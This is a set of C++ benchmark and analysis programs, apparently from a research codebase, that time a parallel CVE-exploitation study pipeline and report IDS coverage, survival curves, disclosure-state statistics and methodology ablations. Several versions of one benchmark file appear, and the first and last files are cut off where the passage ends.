            << "  scale_multipliers=";
  for (std::size_t i = 0; i < multipliers.size(); ++i) {
    std::cout << (i ? "," : "") << multipliers[i];
  }
  std::cout << "\n";
  if (cores == 1) {
    std::cout << "  NOTE: 1 core detected -- parallel speedup gates are SKIPPED, not passed.\n";
  }

  bool outputs_agree = true;

  // Engine gate first: cheap, single-threaded, and meaningful on any host.
  double baseline_seconds = 0;
  double rewrite_seconds = 0;
  const Gate engine_gate =
      reconstruct_gate(base_config, outputs_agree, baseline_seconds, rewrite_seconds);
  std::cout << "\n  reconstruct engine: baseline " << std::fixed << std::setprecision(3)
            << baseline_seconds << "s  rewrite " << rewrite_seconds << "s  speedup "
            << std::setprecision(2) << engine_gate.value << "x  [" << engine_gate.status
            << ", gate >= " << engine_gate.threshold << "x]\n";

  // Warm-up run (discarded): the first study pays allocator growth and
  // page faults that would otherwise be charged to the threads=1 row and
  // skew its plain-vs-observed overhead comparison.
  (void)run_once(base_config, 1, nullptr);

  // Populate the stage cache once (the cold leg).  Stage keys deliberately
  // exclude the thread count and DAG toggle, so this single populate
  // serves the warm leg of every base-scale row below.
  const std::filesystem::path cache_dir =
      std::filesystem::temp_directory_path() / "cvewb_bench_parallel_cache";
  std::filesystem::remove_all(cache_dir);
  const RunLeg cold = run_once(base_config, 1, nullptr, cache_dir.string());

  util::Json runs{util::JsonArray{}};
  std::size_t serial_events = 0;
  double serial_skill = 0;
  double best_sessions_per_sec = 0;
  double speedup_2t = 0;
  double speedup_4t = 0;
  bool have_serial = false;

  for (const double multiplier : multipliers) {
    pipeline::StudyConfig config = base_config;
    config.event_scale = base_config.event_scale * multiplier;
    const bool base_scale = multiplier == multipliers.front();
    const int repeats = repeats_for(multiplier);
    const std::vector<int> thread_counts =
        base_scale ? std::vector<int>{1, 2, 4, 8} : std::vector<int>{1, 4};

    std::cout << "\n  [scale x" << std::setprecision(0) << multiplier << std::setprecision(3)
              << "  sessions/run below]\n"
              << "  threads    seconds    speedup     no_dag   dag_gain   observed   overhead"
                 "       warm    sess/sec\n";

    double scale_serial_seconds = 0;
    std::size_t scale_serial_events = 0;
    double scale_serial_skill = 0;
    for (const int threads : thread_counts) {
      RunLeg best;
      RunLeg best_no_dag;
      double observed_seconds = 0;
      double warm_seconds = 0;
      obs::MetricsSnapshot snapshot;
      std::size_t trace_events = 0;
      for (int i = 0; i < repeats; ++i) {
        // Plain leg (DAG on -- the default scheduling).
        const RunLeg plain = run_once(config, threads, nullptr);
        if (threads == 1 && i == 0) {
          scale_serial_events = plain.events;
          scale_serial_skill = plain.skill;
          if (base_scale && !have_serial) {
            serial_events = plain.events;
            serial_skill = plain.skill;
            have_serial = true;
          }
        } else if (plain.events != scale_serial_events || plain.skill != scale_serial_skill) {
          outputs_agree = false;
        }
        if (i == 0 || plain.seconds < best.seconds) best = plain;

        if (!base_scale) continue;

        // DAG-off leg: the historical barrier-per-stage sequence.  Output
        // must be byte-identical; the wall-clock delta is what dependency
        // scheduling buys.
        const RunLeg no_dag = run_once(config, threads, nullptr, "", /*stage_dag=*/false);
        if (no_dag.events != scale_serial_events || no_dag.skill != scale_serial_skill) {
          outputs_agree = false;
        }
        if (i == 0 || no_dag.seconds < best_no_dag.seconds) best_no_dag = no_dag;

        // Instrumented leg: same config plus a fresh tracing/metrics sink
        // (fresh so the per-stage counters kept from the best repeat
        // describe exactly one run).  The result must not change; the
        // wall-clock delta is the obs overhead, and the per-stage counters
        // feed the overlap ratio below.
        obs::Observability observability;
        const RunLeg observed = run_once(config, threads, &observability);
        if (observed.events != scale_serial_events || observed.skill != scale_serial_skill) {
          outputs_agree = false;
        }
        if (i == 0 || observed.seconds < observed_seconds) {
          observed_seconds = observed.seconds;
          snapshot = observability.metrics.snapshot();
          trace_events = observability.tracer.event_count();
        }

        // Warm-cache leg: every stage served from the populated cache.
        const RunLeg warm = run_once(config, threads, nullptr, cache_dir.string());
        if (warm.events != scale_serial_events || warm.skill != scale_serial_skill) {
          outputs_agree = false;
        }
        if (i == 0 || warm.seconds < warm_seconds) warm_seconds = warm.seconds;
      }
      if (threads == 1) scale_serial_seconds = best.seconds;

      const double speedup = best.seconds > 0 ? scale_serial_seconds / best.seconds : 0;
      const double dag_gain =
          base_scale && best.seconds > 0 ? best_no_dag.seconds / best.seconds : 0;
      const double overhead_pct =
          base_scale && best.seconds > 0
              ? (observed_seconds - best.seconds) / best.seconds * 100.0
              : 0.0;
      const double sessions_per_sec =
          best.seconds > 0 ? static_cast<double>(best.sessions) / best.seconds : 0;
      best_sessions_per_sec = std::max(best_sessions_per_sec, sessions_per_sec);
      if (base_scale && threads == 2) speedup_2t = speedup;
      if (base_scale && threads == 4) speedup_4t = speedup;

      std::cout << "  " << std::setw(7) << threads << std::fixed << std::setprecision(3)
                << std::setw(11) << best.seconds << std::setprecision(2) << std::setw(10)
                << speedup << "x" << std::setprecision(3) << std::setw(11)
                << (base_scale ? best_no_dag.seconds : 0.0) << std::setprecision(2)
                << std::setw(10) << dag_gain << "x" << std::setprecision(3) << std::setw(11)
                << observed_seconds << std::setprecision(1) << std::setw(10) << overhead_pct
                << "%" << std::setprecision(3) << std::setw(11) << warm_seconds
                << std::setprecision(0) << std::setw(12) << sessions_per_sec << "\n";

      // Per-stage wall-clock from the observed leg, plus the overlap
      // ratio: sum(stage seconds) / wall.  1.0 means pure sequence; above
      // 1.0 means the DAG actually ran stages concurrently.
      util::Json stages{util::JsonObject{}};
      double stage_sum = 0;
      for (const char* phase : kPhases) {
        const auto it = snapshot.counters.find(std::string("phase_us/") + phase);
        // A pristine bench skips the fault stage; absent phases report 0.
        const double stage_seconds = it == snapshot.counters.end() ? 0.0 : it->second / 1e6;
        stage_sum += stage_seconds;
        stages.set(phase, stage_seconds);
      }

      util::Json row;
      row.set("scale_multiplier", multiplier);
      row.set("event_scale", config.event_scale);
      row.set("threads", threads);
      row.set("sessions", static_cast<std::int64_t>(best.sessions));
      row.set("seconds", best.seconds);
      row.set("speedup", speedup);
      row.set("sessions_per_sec", sessions_per_sec);
      if (base_scale) {
        row.set("seconds_no_dag", best_no_dag.seconds);
        row.set("dag_gain", dag_gain);
        row.set("seconds_observed", observed_seconds);
        row.set("overhead_pct", overhead_pct);
        row.set("seconds_warm_cache", warm_seconds);
        row.set("warm_cache_speedup", warm_seconds > 0 ? best.seconds / warm_seconds : 0);
        row.set("trace_events", static_cast<std::int64_t>(trace_events));
        row.set("stage_seconds_sum", stage_sum);
        row.set("overlap_ratio", observed_seconds > 0 ? stage_sum / observed_seconds : 0);
        row.set("stages", std::move(stages));
      }
      runs.push_back(std::move(row));
    }
  }
  if (cold.events != serial_events || cold.skill != serial_skill) outputs_agree = false;
  std::cout << "\n  outputs identical across thread counts, scheduling, observability, and"
               " cache: "
            << (outputs_agree ? "yes" : "NO -- DETERMINISM BUG") << "\n";

  // Gates.  Parallel speedups are gated only when the host has the cores;
  // a 1-core host reports "skipped (1 core)" so CI cannot mistake "no
  // parallelism available" for "parallelism works".
  const auto parallel_gate = [&](double value, unsigned required_cores, double threshold) {
    Gate gate;
    gate.value = value;
    gate.threshold = threshold;
    if (cores < required_cores) {
      gate.status = "skipped (" + std::to_string(cores) + " core)";
    } else {
      gate.status = value >= threshold ? "pass" : "fail";
    }
    return gate;
  };
  const Gate gate_2t = parallel_gate(speedup_2t, 2, 1.2);
  const Gate gate_4t = parallel_gate(speedup_4t, 4, 2.0);
  Gate throughput_gate;
  throughput_gate.status = "recorded";
  throughput_gate.value = best_sessions_per_sec;
  std::cout << "  gates: reconstruct_speedup=" << std::setprecision(2) << engine_gate.value
            << "x [" << engine_gate.status << "]  2t=" << gate_2t.value << "x ["
            << gate_2t.status << "]  4t=" << gate_4t.value << "x [" << gate_4t.status
            << "]  sessions/sec=" << std::setprecision(0) << best_sessions_per_sec << "\n";

  util::Json gates{util::JsonObject{}};
  gates.set("reconstruct_speedup", gate_json(engine_gate));
  gates.set("parallel_speedup_2t", gate_json(gate_2t));
  gates.set("parallel_speedup_4t", gate_json(gate_4t));
  gates.set("sessions_per_sec", gate_json(throughput_gate));

  util::Json doc;
  doc.set("bench", "bench_perf_parallel");
  doc.set("pipeline", "run_study");
  doc.set("event_scale", base_config.event_scale);
  doc.set("cores_detected", static_cast<int>(cores));
  // Kept for readers of the old schema; cores_detected is the same value.
  doc.set("hardware_concurrency", static_cast<int>(cores));
  doc.set("outputs_agree", outputs_agree);
  util::Json baseline_doc{util::JsonObject{}};
  baseline_doc.set("seconds_baseline_engine", baseline_seconds);
  baseline_doc.set("seconds_rewrite_engine", rewrite_seconds);
  doc.set("reconstruct_engines", std::move(baseline_doc));
  doc.set("gates", std::move(gates));
  const cache::CacheDirStat cache_stat = cache::CacheStore::stat_dir(cache_dir);
  util::Json cache_doc{util::JsonObject{}};
  cache_doc.set("cold_populate_seconds", cold.seconds);
  cache_doc.set("entries", static_cast<std::int64_t>(cache_stat.entries));
  cache_doc.set("payload_bytes", static_cast<std::int64_t>(cache_stat.payload_bytes));
  doc.set("cache", std::move(cache_doc));
  doc.set("runs", std::move(runs));
  std::filesystem::remove_all(cache_dir);
  std::ofstream out(out_path);
  out << doc.dump(2) << "\n";
  std::cout << "  wrote " << out_path << "\n";

  const bool gates_ok =
      engine_gate.status != "fail" && gate_2t.status != "fail" && gate_4t.status != "fail";
  return outputs_agree && gates_ok ? 0 : 1;
}
