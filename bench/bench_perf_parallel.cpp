// Parallel study-engine scaling: wall-clock for the full run_study
// pipeline (traffic synthesis -> fault-free capture -> IDS matching ->
// reconstruction) at 1/2/4/8 worker threads, with speedup relative to the
// threads=1 serial reference path.  Results are also written to
// BENCH_parallel.json (pass a path as argv[1] to redirect).
//
// Each thread count is run twice -- plain, then with an obs::Observability
// attached -- which measures the instrumentation overhead (budget: < 5%)
// and yields a per-stage wall-clock breakdown from the "phase_us/<name>"
// counters.  The outputs of every run must agree, proving both the
// thread-count and the observability determinism contracts at bench scale.
//
// Set CVEWB_SCALE to down-sample; the acceptance target (>= 3x at 8
// threads, event_scale=1.0) assumes >= 8 physical cores -- on fewer cores
// the table documents whatever the host can do, and the cross-run
// agreement check still proves the outputs identical.
#include <chrono>
#include <fstream>
#include <iomanip>
#include <iostream>
#include <thread>

#include "common.h"
#include "obs/observability.h"
#include "util/json.h"

using namespace cvewb;

namespace {

constexpr const char* kPhases[] = {"telescope", "traffic",  "faults",    "ruleset",
                                   "reconstruct", "analyze", "unique_ips"};

double run_once(pipeline::StudyConfig config, int threads, obs::Observability* observability,
                std::size_t& events_out, double& skill_out) {
  config.threads = threads;
  config.observability = observability;
  const auto start = std::chrono::steady_clock::now();
  const pipeline::StudyResult result = pipeline::run_study(config);
  const auto stop = std::chrono::steady_clock::now();
  events_out = result.reconstruction.events.size();
  skill_out = result.table4.mean_skill();
  return std::chrono::duration<double>(stop - start).count();
}

/// Best-of-N wall-clock: scheduler/allocator noise only ever slows a run
/// down, so the minimum is the least-contaminated estimate.  Plain and
/// instrumented repeats are interleaved so bursty host noise (shared-CPU
/// containers) lands on both sides of the overhead comparison.
constexpr int kRepeats = 5;

}  // namespace

int main(int argc, char** argv) {
  const std::string out_path = argc > 1 ? argv[1] : "BENCH_parallel.json";
  pipeline::StudyConfig config = bench::study_config();

  bench::header("Parallel study engine: run_study wall-clock vs threads");
  std::cout << "event_scale=" << config.event_scale
            << "  hardware_concurrency=" << std::thread::hardware_concurrency() << "\n\n";
  std::cout << "  threads    seconds    speedup   observed    overhead\n";

  // Warm-up run (discarded): the first study pays allocator growth and
  // page faults that would otherwise be charged to the threads=1 row and
  // skew its plain-vs-observed overhead comparison.
  {
    std::size_t events = 0;
    double skill = 0;
    (void)run_once(config, 1, nullptr, events, skill);
  }

  util::Json runs{util::JsonArray{}};
  double serial_seconds = 0;
  std::size_t serial_events = 0;
  double serial_skill = 0;
  bool outputs_agree = true;
  for (const int threads : {1, 2, 4, 8}) {
    double seconds = 0;
    double observed_seconds = 0;
    std::size_t events = 0;
    double skill = 0;
    obs::MetricsSnapshot snapshot;
    std::size_t trace_events = 0;
    for (int i = 0; i < kRepeats; ++i) {
      // Plain leg.
      const double plain_seconds = run_once(config, threads, nullptr, events, skill);
      if (threads == 1 && i == 0) {
        serial_events = events;
        serial_skill = skill;
      } else if (events != serial_events || skill != serial_skill) {
        outputs_agree = false;
      }
      if (i == 0 || plain_seconds < seconds) seconds = plain_seconds;

      // Instrumented leg: same config plus a fresh tracing/metrics sink
      // (fresh so the per-stage counters kept from the best repeat
      // describe exactly one run).  The result must not change; the
      // wall-clock delta is the obs overhead.
      obs::Observability observability;
      std::size_t observed_events = 0;
      double observed_skill = 0;
      const double repeat_seconds =
          run_once(config, threads, &observability, observed_events, observed_skill);
      if (observed_events != serial_events || observed_skill != serial_skill) {
        outputs_agree = false;
      }
      if (i == 0 || repeat_seconds < observed_seconds) {
        observed_seconds = repeat_seconds;
        snapshot = observability.metrics.snapshot();
        trace_events = observability.tracer.event_count();
      }
    }
    if (threads == 1) serial_seconds = seconds;
    const double overhead_pct =
        seconds > 0 ? (observed_seconds - seconds) / seconds * 100.0 : 0.0;

    const double speedup = seconds > 0 ? serial_seconds / seconds : 0;
    std::cout << "  " << std::setw(7) << threads << std::fixed << std::setprecision(3)
              << std::setw(11) << seconds << std::setprecision(2) << std::setw(10) << speedup
              << "x" << std::setprecision(3) << std::setw(11) << observed_seconds
              << std::setprecision(1) << std::setw(10) << overhead_pct << "%\n";

    util::Json stages{util::JsonObject{}};
    for (const char* phase : kPhases) {
      const auto it = snapshot.counters.find(std::string("phase_us/") + phase);
      // A pristine bench skips the fault stage; absent phases report 0.
      const double stage_seconds = it == snapshot.counters.end() ? 0.0 : it->second / 1e6;
      stages.set(phase, stage_seconds);
    }

    util::Json row;
    row.set("threads", threads);
    row.set("seconds", seconds);
    row.set("speedup", speedup);
    row.set("seconds_observed", observed_seconds);
    row.set("overhead_pct", overhead_pct);
    row.set("trace_events", static_cast<std::int64_t>(trace_events));
    row.set("stages", std::move(stages));
    runs.push_back(std::move(row));
  }
  std::cout << "\n  outputs identical across thread counts and with observability: "
            << (outputs_agree ? "yes" : "NO -- DETERMINISM BUG") << "\n";

  util::Json doc;
  doc.set("bench", "bench_perf_parallel");
  doc.set("pipeline", "run_study");
  doc.set("event_scale", config.event_scale);
  doc.set("hardware_concurrency", static_cast<int>(std::thread::hardware_concurrency()));
  doc.set("outputs_agree", outputs_agree);
  doc.set("runs", std::move(runs));
  std::ofstream out(out_path);
  out << doc.dump(2) << "\n";
  std::cout << "  wrote " << out_path << "\n";
  return outputs_agree ? 0 : 1;
}
