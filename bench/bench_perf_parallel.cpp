// Parallel study-engine scaling: wall-clock for the full run_study
// pipeline (traffic synthesis -> fault-free capture -> IDS matching ->
// reconstruction) at 1/2/4/8 worker threads, with speedup relative to the
// threads=1 serial reference path.  Results are also written to
// BENCH_parallel.json (pass a path as argv[1] to redirect).
//
// Set CVEWB_SCALE to down-sample; the acceptance target (>= 3x at 8
// threads, event_scale=1.0) assumes >= 8 physical cores -- on fewer cores
// the table documents whatever the host can do, and the cross-thread
// agreement check still proves the outputs identical.
#include <chrono>
#include <fstream>
#include <iomanip>
#include <iostream>
#include <thread>

#include "common.h"
#include "util/json.h"

using namespace cvewb;

namespace {

double run_once(pipeline::StudyConfig config, int threads, std::size_t& events_out,
                double& skill_out) {
  config.threads = threads;
  const auto start = std::chrono::steady_clock::now();
  const pipeline::StudyResult result = pipeline::run_study(config);
  const auto stop = std::chrono::steady_clock::now();
  events_out = result.reconstruction.events.size();
  skill_out = result.table4.mean_skill();
  return std::chrono::duration<double>(stop - start).count();
}

}  // namespace

int main(int argc, char** argv) {
  const std::string out_path = argc > 1 ? argv[1] : "BENCH_parallel.json";
  pipeline::StudyConfig config = bench::study_config();

  bench::header("Parallel study engine: run_study wall-clock vs threads");
  std::cout << "event_scale=" << config.event_scale
            << "  hardware_concurrency=" << std::thread::hardware_concurrency() << "\n\n";
  std::cout << "  threads    seconds    speedup\n";

  util::Json runs;
  double serial_seconds = 0;
  std::size_t serial_events = 0;
  double serial_skill = 0;
  bool outputs_agree = true;
  for (const int threads : {1, 2, 4, 8}) {
    std::size_t events = 0;
    double skill = 0;
    const double seconds = run_once(config, threads, events, skill);
    if (threads == 1) {
      serial_seconds = seconds;
      serial_events = events;
      serial_skill = skill;
    } else if (events != serial_events || skill != serial_skill) {
      outputs_agree = false;
    }
    const double speedup = seconds > 0 ? serial_seconds / seconds : 0;
    std::cout << "  " << std::setw(7) << threads << std::fixed << std::setprecision(3)
              << std::setw(11) << seconds << std::setprecision(2) << std::setw(10) << speedup
              << "x\n";
    util::Json row;
    row.set("threads", threads);
    row.set("seconds", seconds);
    row.set("speedup", speedup);
    runs.push_back(std::move(row));
  }
  std::cout << "\n  outputs identical across thread counts: "
            << (outputs_agree ? "yes" : "NO -- DETERMINISM BUG") << "\n";

  util::Json doc;
  doc.set("bench", "bench_perf_parallel");
  doc.set("pipeline", "run_study");
  doc.set("event_scale", config.event_scale);
  doc.set("hardware_concurrency", static_cast<int>(std::thread::hardware_concurrency()));
  doc.set("outputs_agree", outputs_agree);
  doc.set("runs", std::move(runs));
  std::ofstream out(out_path);
  out << doc.dump(2) << "\n";
  std::cout << "  wrote " << out_path << "\n";
  return outputs_agree ? 0 : 1;
}
