// Extension analysis: time-to-mitigation as right-censored survival.
//
// Plain CDFs of D-P silently drop the CVEs that never received coverage
// inside the window; Kaplan-Meier keeps them as censored subjects and
// gives the honest "how long does a newly published CVE stay without IDS
// coverage" curve.
#include <cmath>
#include <iostream>

#include "data/appendix_e.h"
#include "report/figures.h"
#include "report/table.h"
#include "stats/survival.h"

int main() {
  using namespace cvewb;
  std::vector<stats::SurvivalObservation> observations;
  std::size_t censored = 0;
  for (const auto& rec : data::appendix_e()) {
    stats::SurvivalObservation obs;
    if (rec.d_minus_p) {
      // Rules shipped before publication mean zero uncovered time.
      obs.duration = std::max(0.0, rec.d_minus_p->total_days());
      obs.event = true;
    } else {
      obs.duration = (data::study_end() - rec.published).total_days();
      obs.event = false;  // still uncovered at end of observation
      ++censored;
    }
    observations.push_back(obs);
  }
  const auto curve = stats::kaplan_meier(std::move(observations));

  util::Series series{"P(still uncovered)", {}, {}};
  series.x.push_back(0.0);
  series.y.push_back(1.0);
  for (const auto& step : curve) {
    series.x.push_back(step.time);
    series.y.push_back(step.survival);
  }
  util::PlotOptions options;
  options.y_unit_interval = true;
  options.x_label = "days since CVE publication";
  report::print_figure(std::cout,
                       "Survival of 'no IDS coverage yet' after publication (Kaplan-Meier)",
                       {series}, options);

  std::cout << "censored CVEs (never covered in-window): " << censored << " of "
            << data::appendix_e().size() << "\n";
  std::cout << "median time to coverage: " << report::fmt(stats::median_survival(curve), 1)
            << " days\n";
  for (double day : {7.0, 30.0, 90.0, 365.0}) {
    std::cout << "  still uncovered after " << day
              << " days: " << report::fmt(stats::survival_at(curve, day) * 100, 1) << "%\n";
  }
  std::cout << "(Compare Finding 6's '16 CVEs covered within 10 days': the tail is long --\n"
            << "coverage for the slowest quarter takes months.)\n";
  return 0;
}
