// Extension analysis: the evolution of CVD effectiveness over the study
// window (§4 anticipates this use of the dataset).  Tracks P < A and
// D < A satisfaction per half-year publication bucket with bootstrap CIs.
#include <iostream>

#include "data/appendix_e.h"
#include "lifecycle/trends.h"
#include "report/table.h"

int main() {
  using namespace cvewb;
  const auto timelines = lifecycle::study_timelines();
  util::Rng rng(42);

  for (const auto& d : {lifecycle::Desideratum{lifecycle::Event::kPublicAwareness,
                                               lifecycle::Event::kAttacks, 0.667},
                        lifecycle::Desideratum{lifecycle::Event::kFixDeployed,
                                               lifecycle::Event::kAttacks, 0.187}}) {
    std::cout << "\n=== trend of " << d.label() << " by publication half-year ===\n";
    const auto trend = lifecycle::skill_trend(timelines, d, data::study_begin(),
                                              data::study_end(), 182.5, rng);
    report::TextTable table({"period", "CVEs", "satisfied", "95% CI", "skill"});
    for (const auto& point : trend) {
      if (point.cves == 0) {
        table.add_row({util::format_date(point.period_start), "0", "-", "-", "-"});
        continue;
      }
      table.add_row({util::format_date(point.period_start), std::to_string(point.cves),
                     report::fmt(point.satisfied),
                     "[" + report::fmt(point.satisfied_ci.lo) + ", " +
                         report::fmt(point.satisfied_ci.hi) + "]",
                     report::fmt(point.skill)});
    }
    std::cout << table.render();
    std::cout << "weighted slope: " << report::fmt(lifecycle::trend_slope_per_year(trend), 3)
              << " satisfaction/year (CIs overlap heavily at n~16/bucket; two years of\n"
                 "data cannot distinguish improvement from noise -- the paper's point\n"
                 "about needing continued collection)\n";
  }
  return 0;
}
