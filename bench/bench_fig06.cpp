// Figure 6: number of distinct CVEs targeted per 5-day bin around
// publication, split by whether an IDS rule was available during the bin.
#include <iostream>

#include "common.h"
#include "report/figures.h"

int main() {
  using namespace cvewb;
  const auto& study = bench::the_study();
  const auto series = lifecycle::cves_per_bin(study.reconstruction.events,
                                              study.reconstruction.timelines, 5.0, -50.0, 400.0);
  util::Series with_rule{"rule available", {}, {}};
  util::Series without_rule{"no rule yet", {}, {}};
  for (std::size_t i = 0; i < series.bin_start_days.size(); ++i) {
    with_rule.x.push_back(series.bin_start_days[i]);
    with_rule.y.push_back(static_cast<double>(series.with_rule[i]));
    without_rule.x.push_back(series.bin_start_days[i]);
    without_rule.y.push_back(static_cast<double>(series.without_rule[i]));
  }
  util::PlotOptions options;
  options.x_label = "days relative to publication (5-day bins)";
  report::print_figure(std::cout, "Figure 6: CVEs targeted per bin, by rule availability",
                       {with_rule, without_rule}, options);

  // Finding 11: beyond the first bin, covered CVEs dominate.
  std::size_t bins_where_covered_majority = 0;
  std::size_t active_bins = 0;
  for (std::size_t i = 0; i < series.bin_start_days.size(); ++i) {
    if (series.bin_start_days[i] < 5.0) continue;  // skip bins at/before publication
    const auto total = series.with_rule[i] + series.without_rule[i];
    if (total == 0) continue;
    ++active_bins;
    if (series.with_rule[i] * 2 >= total) ++bins_where_covered_majority;
  }
  std::cout << "Finding 11: rule-covered CVEs are the majority in " << bins_where_covered_majority
            << " of " << active_bins << " active bins past the first 5 days\n";
  return 0;
}
