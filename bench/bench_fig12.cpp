// Figure 12 / Appendix C: CDF of CVE-2022-26134 (Atlassian Confluence)
// targeted TCP sessions over time, plus the untargeted-OGNL analysis
// (Findings 18/19).
#include <iostream>

#include "common.h"
#include "report/figures.h"
#include "report/table.h"

int main() {
  using namespace cvewb;
  const auto& study = bench::the_study();
  const auto* rec = data::find_cve("CVE-2022-26134");

  std::vector<double> days;
  for (const auto& event : study.reconstruction.events) {
    if (event.cve_id != rec->id) continue;
    days.push_back((event.time - rec->published).total_days());
  }
  util::PlotOptions options;
  options.y_unit_interval = true;
  options.x_label = "days since Confluence CVE publication (2022-06-03)";
  report::print_figure(std::cout, "Figure 12: CDF of CVE-2022-26134 sessions",
                       {report::ecdf_series("Confluence sessions", stats::Ecdf(days))}, options);

  const auto& per_cve = study.reconstruction.per_cve.at(rec->id);
  std::cout << "targeted exploit sessions: " << per_cve.exploit_events << "\n";
  std::cout << "untargeted OGNL sessions before publication (Finding 19): "
            << per_cve.untargeted_sessions << "\n";

  // Finding 18: mitigation effectiveness for this CVE.
  std::size_t mitigated = 0;
  std::size_t total = 0;
  const auto deployed = *rec->fix_deployed();
  for (const auto& event : study.reconstruction.events) {
    if (event.cve_id != rec->id) continue;
    ++total;
    mitigated += event.time >= deployed ? 1 : 0;
  }
  report::print_comparison(std::cout, "share of sessions mitigated (paper: 99.6%)", 0.996,
                           total ? static_cast<double>(mitigated) / total : 0.0);
  std::cout << "IDS deployment offset from publication: "
            << util::format_offset(*rec->d_minus_p)
            << " (paper narrative: within a day of disclosure for the earliest rule)\n";
  return 0;
}
