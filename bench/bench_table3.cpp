// Table 3: the desiderata matrices -- Householder & Spring's and this
// work's collection-methodology-restricted variant.
#include <iostream>

#include "lifecycle/desiderata.h"
#include "lifecycle/markov.h"
#include "report/table.h"

namespace {

using namespace cvewb;

char glyph(lifecycle::Ordering o) {
  switch (o) {
    case lifecycle::Ordering::kNone: return '-';
    case lifecycle::Ordering::kDesired: return 'd';
    case lifecycle::Ordering::kUndesired: return 'u';
    case lifecycle::Ordering::kRequired: return 'r';
  }
  return '?';
}

void print_matrix(const lifecycle::OrderingMatrix& m) {
  report::TextTable table({" ", "V", "F", "D", "P", "X", "A"});
  for (lifecycle::Event row : lifecycle::kAllEvents) {
    std::vector<std::string> cells = {std::string(lifecycle::event_letter(row))};
    for (lifecycle::Event col : lifecycle::kAllEvents) {
      cells.emplace_back(1, glyph(m[lifecycle::index_of(row)][lifecycle::index_of(col)]));
    }
    table.add_row(std::move(cells));
  }
  std::cout << table.render();
}

}  // namespace

int main() {
  std::cout << "=== Table 3a -- Householder & Spring [20] ===\n";
  print_matrix(cvewb::lifecycle::cert_matrix());
  std::cout << "\n=== Table 3b -- this work (collection-implied requirements) ===\n";
  print_matrix(cvewb::lifecycle::this_work_matrix());
  std::cout << "\nValid histories under uniform orderings: 3a-constraints="
            << cvewb::lifecycle::count_valid_histories(cvewb::lifecycle::cert_model())
            << " of 720\n";
  return 0;
}
