// The CERT state machine view ([19]): reachable CVD states under the
// paper's causal model, risk classification, and the probability that a
// "lucky" (uniform-transition) history ever passes through an exposed
// state -- the symbolic counterpart to Table 4's empirical skill.
#include <iostream>
#include <map>

#include "lifecycle/state_machine.h"
#include "report/table.h"

int main() {
  using namespace cvewb;
  const lifecycle::StateMachine machine(lifecycle::cert_model());

  std::cout << "=== CVD state space under the CERT causal model ===\n";
  std::cout << "reachable states: " << machine.states().size() << " of 64\n";
  std::cout << "legal transitions: " << machine.transitions().size() << "\n";
  std::cout << "distinct complete histories: " << machine.history_count() << "\n\n";

  std::map<lifecycle::StateRisk, int> by_risk;
  for (const auto state : machine.states()) ++by_risk[lifecycle::classify_state(state)];
  report::TextTable risk_table({"risk class", "states"});
  for (const auto& [risk, count] : by_risk) {
    risk_table.add_row({std::string(lifecycle::to_string(risk)), std::to_string(count)});
  }
  std::cout << risk_table.render();

  // Probability a random (no-skill) history ever traverses an exposed
  // state: the symbolic "how bad is luck alone".
  double exposed_entry = 0;
  report::TextTable hot({"state", "risk", "visit probability"});
  for (const auto state : machine.states()) {
    const auto risk = lifecycle::classify_state(state);
    if (risk != lifecycle::StateRisk::kExposed) continue;
    const double p = machine.visit_probability(state);
    exposed_entry = std::max(exposed_entry, p);
    if (p >= 0.15) {
      hot.add_row({state.label(), std::string(lifecycle::to_string(risk)), report::fmt(p)});
    }
  }
  std::cout << "\nmost-visited exposed states (visit probability >= 0.15):\n" << hot.render();

  // Empirical comparison: per-CVE terminal orderings say how often real
  // disclosure avoided exposure entirely (D before both X and A).
  std::size_t avoided = 0;
  std::size_t evaluable = 0;
  for (const auto& tl : lifecycle::study_timelines()) {
    const auto dx = tl.precedes(lifecycle::Event::kFixDeployed, lifecycle::Event::kExploitPublic);
    const auto da = tl.precedes(lifecycle::Event::kFixDeployed, lifecycle::Event::kAttacks);
    if (!da) continue;
    ++evaluable;
    if (*da && (!dx || *dx)) ++avoided;
  }
  std::cout << "\nmeasured: " << avoided << " of " << evaluable
            << " studied CVEs never entered an exposed state (fix deployed before any\n"
               "public exploit or attack) -- skill beats luck, but far from always.\n";
  return 0;
}
