// Ablations of the paper's methodology choices (§3.1 / §3.2):
//   (a) port-insensitive rule evaluation vs vendor port constraints,
//   (b) root-cause analysis on vs off,
//   (c) interactive (DSCOPE) vs passive (darknet) collection.
// Each quantifies what the design choice buys.
#include <iostream>
#include <set>

#include "common.h"
#include "ids/matcher.h"
#include "ids/rule_gen.h"
#include "report/table.h"
#include "telescope/darknet.h"

int main() {
  using namespace cvewb;
  const auto& study = bench::the_study();
  const auto& sessions = study.traffic.sessions;

  bench::header("Ablation (a): port-insensitive matching (on in the paper)");
  {
    pipeline::ReconstructOptions port_bound;
    port_bound.port_insensitive = false;
    const auto strict = pipeline::reconstruct(sessions, study.ruleset, port_bound);
    const auto& loose = study.reconstruction;
    report::TextTable table({"metric", "port-insensitive", "port-bound", "lost"});
    table.add_row({"sessions matched", std::to_string(loose.sessions_matched),
                   std::to_string(strict.sessions_matched),
                   std::to_string(loose.sessions_matched - strict.sessions_matched)});
    table.add_row({"exploit events", std::to_string(loose.events.size()),
                   std::to_string(strict.events.size()),
                   std::to_string(loose.events.size() - strict.events.size())});
    table.add_row({"CVEs recovered", std::to_string(loose.timelines.size()),
                   std::to_string(strict.timelines.size()),
                   std::to_string(loose.timelines.size() - strict.timelines.size())});
    std::cout << table.render();
    std::cout << "Scanners spray non-standard ports; vendor port constraints silently drop\n"
                 "that traffic, which is why §3.1 rewrites every rule to be port-agnostic.\n";
  }

  bench::header("Ablation (b): root-cause analysis off");
  {
    // Without §3.2's review, the over-broad decoy rule's CVE enters the
    // dataset and credential stuffing masquerades as zero-day traffic.
    const ids::Matcher matcher(study.ruleset.rules());
    std::set<std::string> cves_without_rca;
    std::size_t decoy_sessions = 0;
    for (const auto& session : sessions) {
      const ids::Rule* rule = matcher.earliest_published_match(session);
      if (rule == nullptr) continue;
      cves_without_rca.insert(rule->cve);
      if (rule->cve == ids::kDecoyCveId) ++decoy_sessions;
    }
    std::cout << "CVEs without review: " << cves_without_rca.size() << " (with review: "
              << study.reconstruction.rca.kept_cves() << ")\n";
    std::cout << "false exploit events admitted: " << decoy_sessions
              << " (all credential stuffing against /api/v1/auth)\n";
  }

  bench::header("Ablation (c): passive darknet vs interactive telescope");
  {
    telescope::Darknet darknet(net::Prefix(net::IPv4(0, 0, 0, 0), 0));
    const auto observations = darknet.observe_all(sessions);
    // A darknet never completes the handshake: no payloads, no signature
    // matches, no CVE attribution.
    const ids::Matcher matcher(study.ruleset.rules());
    std::size_t darknet_matched = 0;
